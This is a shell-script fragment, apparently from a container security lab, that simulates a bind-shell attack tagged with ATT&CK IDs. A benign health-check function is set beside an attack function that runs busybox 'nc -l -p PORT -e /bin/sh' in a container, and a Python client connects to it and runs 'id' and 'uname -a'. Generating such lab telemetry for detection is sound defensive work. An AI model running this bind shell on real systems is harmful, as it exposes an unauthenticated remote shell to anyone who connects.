# A bind shell: busybox's nc listens on a port of the container (the host's network here) and hands whoever
# connects a shell (`nc -l -p PORT -e /bin/sh`); the attacker connects from the host and runs `id`, `uname -a`
# (T1059.004, T1571). Unlike reverse-shell, nothing connects out: the container starts listening.
normal() { inside "$1" /bin/sh -c 'echo ok > /tmp/health; cat /tmp/health' >/dev/null; }
attack() {
  local port; port=$(free_port)
  LAB_RUNTIME=$LAB_RUNTIME timeout 10 bash -c "$(declare -f rt lab_log); rt exec \"\$@\"" _ "$1" \
    /bin/nc -l -p "$port" -e /bin/sh &
  local server=$!
  wait_listening "$port"
  python3 - "$port" > "$LAB_DIR/bind-shell.$$.out" 2>&1 <<'PY' || true
import socket, sys
c = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
c.sendall(b"id\nuname -a\nexit\n")
try:
    while (data := c.recv(65536)):
        sys.stdout.write(data.decode(errors="replace"))
except socket.timeout:
    pass
PY
  wait "$server" || true
}
